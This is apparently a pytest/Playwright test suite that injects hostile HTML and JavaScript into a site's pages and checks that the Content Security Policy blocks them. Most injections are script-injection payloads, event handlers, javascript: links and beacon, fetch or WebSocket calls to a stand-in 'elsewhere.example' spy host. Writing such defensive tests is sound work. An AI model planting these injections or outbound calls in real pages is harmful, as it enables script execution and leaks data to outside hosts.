"""What the policy of a page refuses: whatever somebody might slip into it."""

import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.browser.conftest import served, watched
from tests.browser.hosting import REFUSALS

SLIPPED_IN = """
<script>window.slipped = ["a script"];</script>
<p id="slip" style="position: fixed" onclick="window.slipped = ['a handler']">here</p>
<a id="address" href="javascript:window.slipped = ['an address']">here</a>
<img src="https://elsewhere.example/spy.png" alt="">
<link rel="stylesheet" href="https://elsewhere.example/spy.css">
<iframe src="https://elsewhere.example/"></iframe>
<form action="https://elsewhere.example/"><button id="send">send</button></form>
<script src="https://elsewhere.example/spy.js"></script>
<script src="SCRIPT"></script>
</body>
"""
OWN = """
window.own = true;
try { Function("window.slipped = ['eval']")(); } catch (error) { window.refused = error.name; }
fetch("https://elsewhere.example/tell").catch(() => {});
"""


@pytest.fixture
def open_page(browser: Browser, built_site: Path) -> Iterator[Callable[[str], tuple[Page, list[str]]]]:
    """Open a page into which somebody has put more; gives it, and what its policy refused."""
    with served(built_site) as url, browser.new_context() as context:
        base = f"{url}/"

        def opened(path: str) -> tuple[Page, list[str]]:
            said: list[str] = []

            def slip(route: Route) -> None:
                answer = route.fetch()
                more = SLIPPED_IN.replace("SCRIPT", f"{base}own.js")
                route.fulfill(response=answer, body=answer.text().replace("</body>", more))

            page = context.new_page()
            page.add_init_script(REFUSALS)
            page.on("console", lambda message: said.append(message.text))
            page.route(f"{base}{path}", slip)
            page.route(f"{base}own.js", lambda route: route.fulfill(content_type="text/javascript", body=OWN))
            page.goto(f"{base}{path}")
            return page, said

        yield opened


TRY = """async () => {
  for (const name of ["slip", "address", "send"]) document.getElementById(name).click();
  await new Promise((done) => setTimeout(done, 300));
  return {
    slipped: window.slipped ?? null,
    refused: window.refused,
    position: getComputedStyle(document.getElementById("slip")).position,
    place: location.pathname,
  };
}"""


@pytest.mark.parametrize("path", ["", "systems/mythras/"])
def test_what_is_slipped_into_a_page_does_nothing(
    open_page: Callable[[str], tuple[Page, list[str]]], path: str
) -> None:
    page, said = open_page(path)
    page.wait_for_function("window.own")
    assert page.evaluate(TRY) == {"slipped": None, "refused": "EvalError", "position": "static", "place": f"/{path}"}
    refused = {line.split()[1] for line in said if line.startswith("policy: ")}
    assert refused == {
        "script-src-elem", "script-src-attr", "script-src", "style-src-elem", "style-src-attr",
        "img-src", "frame-src", "form-action", "connect-src",
    }  # fmt: skip


ASKS = (
    'fetch("https://elsewhere.example/").catch(() => {})',
    'navigator.sendBeacon("https://elsewhere.example/", "here")',
    'new Image().src = "https://elsewhere.example/spy.png"',
    'new WebSocket("wss://elsewhere.example/")',
    'document.head.insertAdjacentHTML("beforeend", `<link rel="prefetch" href="https://elsewhere.example/">`)',
    'document.head.insertAdjacentHTML("beforeend", `<link rel="stylesheet" href="https://elsewhere.example/">`)',
)


def test_a_request_to_another_host_is_a_complaint(browser: Browser, site_url: str) -> None:
    with watched(browser, site_url) as (page, complaints):
        page.goto("/method/")
        for asked in ASKS:
            complaints.clear()
            with page.expect_console_message():
                page.evaluate(f"() => {{ {asked} }}")
            assert any("elsewhere.example" in line and "Content Security Policy" in line for line in complaints), asked


def test_so_is_a_request_of_a_worker_which_no_policy_of_the_page_stops(
    browser: Browser, built_site: Path, tmp_path: Path
) -> None:
    shutil.copy(built_site / "method" / "index.html", tmp_path)
    asks = 'fetch("https://elsewhere.example/").catch(() => {}).then(() => postMessage("done"));'
    (tmp_path / "worker.js").write_text(asks, encoding="utf-8")
    with served(tmp_path) as url, watched(browser, url) as (page, complaints):
        page.goto("/")
        complaints.clear()
        page.evaluate('() => new Promise((done) => { new Worker("/worker.js").onmessage = done; }).then(() => null)')
        assert "asked another host: https://elsewhere.example/" in complaints
